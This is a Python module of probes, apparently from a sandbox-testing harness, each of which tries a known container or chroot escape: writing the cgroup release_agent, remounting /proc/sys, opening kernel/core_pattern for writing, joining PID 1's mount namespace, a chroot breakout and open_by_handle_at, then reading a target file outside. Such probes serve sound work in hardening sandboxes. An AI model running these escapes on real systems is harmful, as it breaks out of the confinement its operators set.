"""
Ways out by mounts and namespaces.
"""

# ruff: noqa: D103 - the name of a probe says what it tries

from __future__ import annotations

import contextlib
import ctypes
import errno
import os
import struct

from .kernel import (
    MS_BIND,
    MS_RDONLY,
    MS_REMOUNT,
    NEW_CGROUP,
    NEW_NS,
    NEW_PID,
    NEW_USER,
    allowed,
    call,
    check,
    folder,
    libc,
    mount,
    opened,
    probe,
    unshare,
)
from .others import TREASURE


@probe
def mount_something() -> str:
    target = folder("mount")
    mount("tmpfs", target, "tmpfs")
    check(libc.umount2(target.encode(), 2))
    return "mount"


@probe
def make_sysctls_writable() -> str:
    mount("none", "/proc/sys", "", MS_REMOUNT | MS_BIND)
    mount("none", "/proc/sys", "", MS_REMOUNT | MS_BIND | MS_RDONLY)
    return "/proc/sys was remounted"


@probe
def unmount_the_mask() -> str:
    return allowed("umount", lambda: check(libc.umount2(b"/usr", 2)))


@probe
def new_mount_namespace() -> str:
    unshare(NEW_NS)
    return "unshare"


@probe
def release_agent() -> str:
    unshare(NEW_CGROUP | NEW_NS)
    target = folder("cgroup")
    mount("cgroup", target, "cgroup", 0, "memory")
    return opened([f"{target}/release_agent"], os.O_WRONLY)


@probe
def release_agent_in_a_user_namespace() -> str:
    unshare(NEW_USER | NEW_CGROUP | NEW_NS)
    target = folder("cgroup")
    mount("cgroup", target, "cgroup", 0, "memory")
    return opened([f"{target}/release_agent"], os.O_WRONLY)


@probe
def sysctls_in_a_user_namespace() -> str:
    unshare(NEW_USER | NEW_NS)
    check(libc.umount2(b"/proc/sys", 2))
    return opened(["/proc/sys/kernel/core_pattern"], os.O_WRONLY)


@probe
def fresh_proc_in_a_user_namespace() -> str:
    unshare(NEW_USER | NEW_NS | NEW_PID)
    child = os.fork()
    if child == 0:
        with contextlib.suppress(OSError):
            mount("proc", "/proc", "proc")
            opened(["/proc/sys/kernel/core_pattern"], os.O_WRONLY)
            os._exit(7)
        os._exit(0)
    if os.waitpid(child, 0)[1] >> 8 != 7:
        raise OSError(errno.EPERM, "stopped")
    return "core_pattern can be written in a new /proc"


@probe
def join_the_first_process() -> str:
    with open("/proc/1/ns/mnt", "rb") as namespace:  # noqa: PTH123
        check(libc.setns(namespace.fileno(), 0))
    return opened([f"/{TREASURE}"])


@probe
def leave_the_root_by_chroot() -> str:
    outside = os.open("/", os.O_RDONLY)
    os.chroot(folder("chroot"))
    os.fchdir(outside)
    os.chdir("../" * 20)
    os.chroot(".")
    return opened([f"/{TREASURE}", "/.outside"])


@probe
def open_by_handle() -> str:
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    number = ctypes.c_int()
    with open("/", "rb", opener=lambda path, _: os.open(path, os.O_RDONLY)) as _:
        pass
    call("name_to_handle_at", -100, b"/", handle, ctypes.byref(number), 0)
    root = os.open("/", os.O_RDONLY)
    os.close(call("open_by_handle_at", root, handle, os.O_RDONLY))
    return "a file was opened by its handle"
